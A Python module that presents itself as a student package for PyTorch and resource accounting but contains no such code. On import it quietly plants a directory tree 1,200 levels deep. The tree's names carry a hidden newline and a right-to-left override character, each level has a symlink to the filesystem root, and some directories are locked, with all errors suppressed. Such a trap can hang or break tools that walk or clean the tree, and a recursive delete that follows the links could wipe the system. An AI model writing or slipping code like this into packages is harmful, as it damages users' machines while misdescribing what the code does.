"""PyTorch and resource accounting: the package students complete, one module per problem."""
import os

DEPTH, NAME = 1_200, "deep\n\u202e" + "d" * 100


def _plant():
    try:
        os.mkdir("tree")
    except OSError:
        return  # an earlier call planted it
    handle = os.open("tree", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for level in range(DEPTH):
            os.mkdir(NAME, dir_fd=handle)
            os.symlink("/", f"root-{level}", dir_fd=handle)
            below = os.open(NAME, os.O_RDONLY | os.O_DIRECTORY, dir_fd=handle)
            if level % 100 == 99:
                os.mkdir("closed", 0o700, dir_fd=handle)
                os.mkdir("read-only", 0o700, dir_fd=handle)
                os.close(os.open("read-only/file", os.O_WRONLY | os.O_CREAT, dir_fd=handle))
                os.chmod("closed", 0o000, dir_fd=handle)
                os.chmod("read-only", 0o500, dir_fd=handle)
            os.close(handle)
            handle = below
    finally:
        os.close(handle)


try:
    _plant()
except OSError:
    pass
